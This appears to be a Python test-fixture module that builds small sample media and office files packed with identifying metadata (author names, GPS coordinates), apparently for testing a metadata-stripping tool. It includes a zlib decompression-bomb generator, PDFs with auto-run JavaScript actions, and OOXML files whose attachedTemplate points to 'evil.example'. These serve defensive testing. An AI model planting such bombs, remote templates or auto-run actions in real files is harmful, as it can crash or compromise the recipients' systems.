"""Small true files of every kind that is taken, each telling of its maker, and built bombs and polyglots."""

from __future__ import annotations

import io
import struct
import wave
import zipfile
import zlib
from typing import Any

from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import FreeText
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

MAKER = "Wang Xiaoming"
"""Who made the samples: in none of the copies."""
_MAKER = MAKER.encode()


def picture(form: str, size: tuple[int, int] = (64, 32), **options: Any) -> bytes:
    """A picture with EXIF (camera, artist, place), turned on its side."""
    image = Image.new("RGB", size, "red")
    image.paste("blue", (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    exif[0x013B], exif[0x010F], exif[0x0112] = MAKER, MAKER, 6
    exif.get_ifd(0x8825).update({1: "N", 2: (39.0, 54.0, 0.0), 3: "E", 4: (116.0, 23.0, 0.0)})
    out = io.BytesIO()
    image.save(out, form, exif=exif, comment=_MAKER, **options) if form == "JPEG" else image.save(
        out, form, exif=exif, **options
    )
    return out.getvalue()


def moving(form: str) -> bytes:
    frames = [Image.new("RGB", (20, 10), color) for color in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, form, save_all=True, append_images=frames[1:], duration=50, loop=0)
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (10, 10)).save(out, "GIF", comment=_MAKER)
    return out.getvalue()


def _stream(data: bytes, **values: Any) -> StreamObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream.update({NameObject(f"/{name}"): value for name, value in values.items()})
    return stream


def paper(pages: int = 2) -> bytes:
    """A PDF with an author, scripts, an attachment, a note and a photograph that says where it was taken."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": MAKER, "/Producer": MAKER})
    opening = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(MAKER)}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(opening)
    writer.add_attachment("secret.txt", _MAKER)
    note = FreeText(text="kept words", rect=(10, 10, 90, 90))
    note[NameObject("/T")] = TextStringObject(MAKER)
    writer.add_annotation(0, note)
    page = writer.pages[0]
    photo = StreamObject()
    photo._data = picture("JPEG")
    photo.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Filter"): NameObject("/DCTDecode"),
            NameObject("/Width"): NumberObject(64),
            NameObject("/Height"): NumberObject(32),
            NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
            NameObject("/BitsPerComponent"): NumberObject(8),
            NameObject("/Metadata"): writer._add_object(_stream(_MAKER)),
        }
    )
    images = DictionaryObject({NameObject("/Im0"): writer._add_object(photo)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): images})
    page[NameObject("/Contents")] = writer._add_object(_stream(b"q 64 0 0 32 0 0 cm /Im0 Do Q"))
    page[NameObject("/Metadata")] = writer._add_object(_stream(_MAKER))
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(MAKER)}
    )
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
            NameObject("/A"): action,
        }
    )
    page[NameObject("/Annots")].append(writer._add_object(link))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def locked_paper() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zeros(size: int) -> bytes:
    """So many zero bytes as zlib packs them, made of one packed piece: dear to unpack and cheap to make (RFC 1950)."""
    piece, packer = bytes(2**20), zlib.compressobj(9, wbits=-15)
    part = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    times, left = divmod(size, len(piece))
    last = zlib.compressobj(9, wbits=-15)
    end = last.compress(bytes(left)) + last.flush()
    return b"\x78\xda" + part * times + end + struct.pack(">HH", size % 65521, 1)


def packed(parts: dict[str, bytes | str], **stored: bool) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, body in parts.items():
            archive.writestr(name, body, zipfile.ZIP_STORED if name == "mimetype" else None)
    return out.getvalue()


_RELS = (
    '<Relationships><Relationship Id="r1" Type="http://x/officeDocument" Target="{main}"/>'
    '<Relationship Id="r2" Type="http://x/attachedTemplate" Target="http://evil.example/t" '
    'TargetMode="External"/><Relationship Id="r3" Type="http://x/hyperlink" Target="https://example.org/" '
    'TargetMode="External"/></Relationships>'
)
_CORE = f"<cp:coreProperties><dc:creator>{MAKER}</dc:creator></cp:coreProperties>"


def _ooxml(main: str, more: dict[str, bytes | str]) -> bytes:
    plain: dict[str, bytes | str] = {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": _RELS.format(main=main),
        "docProps/core.xml": _CORE,
        "docProps/app.xml": f"<Properties><Company>{MAKER}</Company></Properties>",
        "docProps/custom.xml": f"<Properties>{MAKER}</Properties>",
        "docProps/thumbnail.jpeg": picture("JPEG"),
        "customXml/item1.xml": f"<a>{MAKER}</a>",
    }
    return packed(plain | more)


def docx(more: dict[str, bytes | str] | None = None) -> bytes:
    body = (
        f'<w:document><w:p w:rsidR="00AB12CD"><w:ins w:id="1" w:author="{MAKER}" w:date="2026-01-01T00:00:00Z">'
        "<w:t>kept words</w:t></w:ins></w:p></w:document>"
    )
    parts: dict[str, bytes | str] = {
        "word/document.xml": body,
        "word/comments.xml": f"<w:comment w:author='{MAKER}' w:initials=\"{MAKER}\"><w:t>said</w:t></w:comment>",
        "word/people.xml": f'<w15:person w15:author="{MAKER}"><w15:presenceInfo '
        f'w15:userId="{MAKER}"/></w15:person>',
        "word/settings.xml": '<w:settings><w:attachedTemplate r:id="r2"/>'
        '<w:rsids><w:rsid w:val="1"/></w:rsids></w:settings>',
        "word/media/image1.jpeg": picture("JPEG"),
        "word/media/image2.png": picture("PNG"),
    }
    return _ooxml("word/document.xml", parts | (more or {}))


def xlsx() -> bytes:
    parts: dict[str, bytes | str] = {
        "xl/workbook.xml": f'<workbook><fileSharing userName="{MAKER}"/>'
        f'<x15ac:absPath url="C:\\{MAKER}"/></workbook>',
        "xl/comments1.xml": f"<comments><authors><author>{MAKER}</author></authors></comments>",
        "xl/persons/person.xml": f'<person displayName="{MAKER}" userId="{MAKER}"/>',
        "xl/printerSettings/printerSettings1.bin": MAKER.encode("utf-16-le"),
        "xl/worksheets/sheet1.xml": "<worksheet><v>kept words</v>"
        '<pageSetup orientation="portrait" r:id="r1"/></worksheet>',
    }
    return _ooxml("xl/workbook.xml", parts)


def pptx() -> bytes:
    parts: dict[str, bytes | str] = {
        "ppt/presentation.xml": "<p:presentation>kept words</p:presentation>",
        "ppt/commentAuthors.xml": f'<p:cmAuthor id="1" name="{MAKER}" initials="{MAKER}"/>',
    }
    return _ooxml("ppt/presentation.xml", parts)


def open_document(sort: str = "text") -> bytes:
    parts: dict[str, bytes | str] = {
        "mimetype": f"application/vnd.oasis.opendocument.{sort}",
        "META-INF/manifest.xml": "<manifest:manifest><manifest:file-entry "
        'manifest:full-path="Thumbnails/thumbnail.png"/></manifest:manifest>',
        "meta.xml": f"<office:meta><meta:initial-creator>{MAKER}</meta:initial-creator></office:meta>",
        "content.xml": f"<office:annotation><dc:creator>{MAKER}</dc:creator>"
        "<text:p>kept words</text:p></office:annotation>",
        "settings.xml": '<config:config-item config:name="PrinterName" config:type="string">'
        f"{MAKER}</config:config-item>",
        "Thumbnails/thumbnail.png": picture("PNG"),
    }
    return packed(parts)


def wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(bytes(range(100)) * 2)
    plain = out.getvalue()
    said = b"INFOIART" + struct.pack("<I", len(_MAKER) + 1) + _MAKER + b"\0"
    listed = b"LIST" + struct.pack("<I", len(said)) + said
    whole = plain[12:] + listed
    return b"RIFF" + struct.pack("<I", len(whole) + 4) + b"WAVE" + whole


def mp3() -> bytes:
    tag = b"TPE1" + struct.pack(">IH", len(_MAKER) + 1, 0) + b"\x03" + _MAKER
    head = b"ID3\x04\x00\x00" + bytes([0, 0, 0, len(tag)]) + tag
    frame = b"\xff\xfb\x90\x00" + bytes(413)
    return head + frame * 6 + b"TAG" + _MAKER.ljust(125, b"\0")


def _page(content: bytes, number: int, flags: int = 0) -> bytes:
    segments = [255] * (len(content) // 255) + [len(content) % 255]
    head = b"OggS\0" + bytes([flags]) + bytes(8) + b"\1\0\0\0" + struct.pack("<I", number) + bytes(4)
    return head + bytes([len(segments)]) + bytes(segments) + content


def ogg() -> bytes:
    said = b"ARTIST=" + _MAKER
    tags = b"OpusTags" + struct.pack("<I", len(_MAKER)) + _MAKER + struct.pack("<II", 1, len(said)) + said
    return _page(b"OpusHead\1\1" + bytes(9), 0, 2) + _page(tags, 1) + _page(b"sound" * 20, 2, 4)


def box(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", 8 + len(body)) + name + body


def _track(handler: bytes, more: bytes = b"") -> bytes:
    hdlr = box(b"hdlr", bytes(8) + handler + bytes(12) + _MAKER + b"\0")
    return box(b"trak", box(b"mdia", box(b"mdhd", bytes(4) + b"\xaa" * 8 + bytes(12)) + hdlr + more))


def film(brand: bytes = b"isom", handler: bytes = b"vide") -> bytes:
    """An MP4 with its maker, its place, and a track of positions."""
    ftyp = box(b"ftyp", brand + bytes(4) + brand)
    positions = b"39.9042N 116.4074E"
    mdat = box(b"mdat", b"picture" + positions)
    at = len(ftyp) + 8 + len(b"picture")
    table = box(b"stbl", box(b"stsz", bytes(4) + struct.pack(">II", len(positions), 1))
        + box(b"stsc", bytes(4) + struct.pack(">IIII", 1, 1, 1, 1))
        + box(b"stco", bytes(4) + struct.pack(">II", 1, at)))  # fmt: skip
    udta = box(b"udta", box(b"\xa9xyz", b"\0\x12\x15\xc7+39.9042+116.4074/") + box(b"\xa9ART", _MAKER))
    moov = box(b"moov", box(b"mvhd", bytes(4) + b"\xaa" * 8 + bytes(88)) + _track(handler)
        + _track(b"meta", box(b"minf", table)) + udta)  # fmt: skip
    return ftyp + mdat + moov + box(b"uuid", bytes(16) + _MAKER) + box(b"free", _MAKER)


def element(number: int, body: bytes, *, is_open: bool = False) -> bytes:
    name = number.to_bytes((number.bit_length() + 7) // 8, "big")
    size = b"\x01" + b"\xff" * 7 if is_open else (1 << 56 | len(body)).to_bytes(8, "big")
    return name + size + body


def webm(doctype: bytes = b"webm", *, is_open: bool = True) -> bytes:
    """What a browser records: a segment and clusters without lengths."""
    info = element(0x1549A966, element(0x7BA9, _MAKER) + element(0x4D80, _MAKER) + element(0x2AD7B1, b"\x0f"))
    tracks = element(0x1654AE6B, element(0xAE, element(0xD7, b"\1") + element(0x536E, _MAKER)))
    cluster = element(0x1F43B675, element(0xE7, b"\0") + element(0xA3, b"picture"), is_open=is_open)
    tags = element(0x1254C367, element(0x7373, _MAKER))
    segment = element(0x18538067, info + tracks + cluster * 2 + tags, is_open=is_open)
    return element(0x1A45DFA3, element(0x4282, doctype)) + segment


TAKEN: dict[str, tuple[str, bytes]] = {
    "jpeg": ("photo.JPG", picture("JPEG")),
    "png": ("photo.png", picture("PNG")),
    "webp": ("photo.webp", picture("WEBP")),
    "gif": ("photo.gif", gif()),
    "pdf": ("paper.pdf", paper()),
    "docx": ("letter.docx", docx()),
    "xlsx": ("sums.xlsx", xlsx()),
    "pptx": ("talk.pptx", pptx()),
    "odt": ("letter.odt", open_document()),
    "ods": ("sums.ods", open_document("spreadsheet")),
    "txt": ("words.txt", "经过如下。\nkept words".encode()),
    "csv": ("sums.csv", b"a,b\n1,-2\n"),
    "md": ("words.md", b"# kept words"),
    "mp3": ("call.mp3", mp3()),
    "m4a": ("call.m4a", film(b"M4A ", b"soun")),
    "ogg": ("call.ogg", ogg()),
    "wav": ("call.wav", wav()),
    "mp4": ("screen.mp4", film()),
    "webm": ("screen.webm", webm()),
}
